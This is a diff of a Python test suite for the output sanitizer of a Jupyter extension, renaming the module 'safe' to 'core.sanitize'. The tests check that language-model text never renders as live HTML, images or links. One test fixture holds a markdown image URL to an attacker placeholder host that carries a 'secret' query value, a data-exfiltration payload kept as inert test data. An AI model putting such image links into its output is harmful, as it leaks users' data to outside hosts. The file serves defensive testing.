@@ -1,4 +1,4 @@
-"""The security contract of kimi_jupyter.safe: model text never becomes live HTML or terminal control.
+"""The security contract of kimi_jupyter.core.sanitize: model text never becomes live HTML or terminal control.
 
 Outputs are checked with an independent parser (stdlib html.parser) against an allowlist
 written here, not imported from the module, so widening the module's allowlist fails a test.
@@ -15,8 +15,8 @@ from markdown_it import MarkdownIt
 
 from html_check import assert_safe, problems
 
-from kimi_jupyter import safe
-from kimi_jupyter.safe import escape, fence, inline_code, markdown_block, markdown_html, plain
+from kimi_jupyter.core import sanitize
+from kimi_jupyter.core.sanitize import escape, fence, inline_code, markdown_block, markdown_html, plain
 
 def test_checker_can_fail() -> None:
     # The checker itself must catch what we claim it catches.
@@ -147,13 +147,13 @@ RAW_HTML = [p for p in PAYLOADS + BLOCK_PAYLOADS if "<" in p] + [
 @pytest.mark.parametrize("markup", RAW_HTML)
 def test_cleaner_alone_holds(markup: str) -> None:
     """Defence in depth: even raw HTML (were markdown-it ever to pass some) comes out clean."""
-    assert_safe(safe._clean(markup))
+    assert_safe(sanitize._clean(markup))
 
 
 def test_cleaner_drops_generic_attributes() -> None:
-    assert safe._clean(RAW_HTML[-5]) == "<p>p</p>"  # ammonia's defaults allow title/lang anywhere
+    assert sanitize._clean(RAW_HTML[-5]) == "<p>p</p>"  # ammonia's defaults allow title/lang anywhere
     cells = '<table><tr><td align="right" style="x">d</td><td align="evil">e</td></tr></table>'
-    assert safe._clean(cells) == '<table><tbody><tr><td align="right">d</td><td>e</td></tr></tbody></table>'
+    assert sanitize._clean(cells) == '<table><tbody><tr><td align="right">d</td><td>e</td></tr></tbody></table>'
 
 
 def test_payloads_stay_visible_as_text() -> None:
@@ -324,7 +324,7 @@ def test_block_newlines() -> None:
 
 def test_block_placeholder_cannot_be_forged(monkeypatch: pytest.MonkeyPatch) -> None:
     tokens = iter(["0" * 16, "1" * 16])
-    monkeypatch.setattr(safe, "_new_token", lambda: "kimimath" + next(tokens))
+    monkeypatch.setattr(sanitize, "_new_token", lambda: "kimimath" + next(tokens))
     text = "kimimath00000000000000000z and $x<y$"  # the first token's placeholder for math #0
     out = markdown_block(text)
     assert "kimimath00000000000000000z and" in out  # left alone: a fresh token was drawn
@@ -428,12 +428,12 @@ def test_escape() -> None:
 
 
 def test_imports_are_lazy_and_cached() -> None:
-    tree = ast.parse(Path(safe.__file__).read_text(encoding="utf-8"))
+    tree = ast.parse(Path(sanitize.__file__).read_text(encoding="utf-8"))
     top = [n for n in tree.body if isinstance(n, (ast.Import, ast.ImportFrom))]
     names = {a.name for n in top for a in n.names} | {n.module for n in top if isinstance(n, ast.ImportFrom)}
     assert not {"nh3", "markdown_it", "mdit_py_plugins", "mdit_py_plugins.dollarmath"} & names
     markdown_html("x")
-    assert safe._markdown() is safe._markdown()
+    assert sanitize._markdown() is sanitize._markdown()
 
 
 def test_long_answer_renders() -> None:
@@ -541,10 +541,10 @@ def test_image_label_shows_the_host_the_browser_would_contact() -> None:
         "http://[::1]:9/p": "[::1]:9",
     }
     for url, host in cases.items():
-        assert safe.url_host(url) == host, url
-        assert safe.image_label("x", url) == f"[image: x — {host}]"
-    assert safe.image_label("", "plots/a.png") == "[image — a local path]"
-    assert safe.image_label("a\n  b", "data:image/png;base64,AAAA") == "[image: a b — inline data, not shown]"
+        assert sanitize.url_host(url) == host, url
+        assert sanitize.image_label("x", url) == f"[image: x — {host}]"
+    assert sanitize.image_label("", "plots/a.png") == "[image — a local path]"
+    assert sanitize.image_label("a\n  b", "data:image/png;base64,AAAA") == "[image: a b — inline data, not shown]"
 
 
 def test_data_image_in_model_text_is_a_label_not_an_image_nor_a_link() -> None:
@@ -554,8 +554,8 @@ def test_data_image_in_model_text_is_a_label_not_an_image_nor_a_link() -> None:
 
 def test_markdown_text_keeps_server_text_out_of_markdown_syntax() -> None:
     model = f"kimi ![x]({LEAK}) <b>*x*</b> $y$ [l](https://e.example)"
-    line = f"<sub>{safe.markdown_text(model)}</sub>"
+    line = f"<sub>{sanitize.markdown_text(model)}</sub>"
     rendered = _passthrough.render(line)
     assert _loads(rendered) == [] and "<a " not in rendered and "<em>" not in rendered and "<b>" not in rendered
     assert "kimi ![x](https://attacker.example/p.png?d=secret) &lt;b&gt;*x*&lt;/b&gt; $y$" in rendered
-    assert "\n" not in safe.markdown_text("a\nb\r\nc")
+    assert "\n" not in sanitize.markdown_text("a\nb\r\nc")
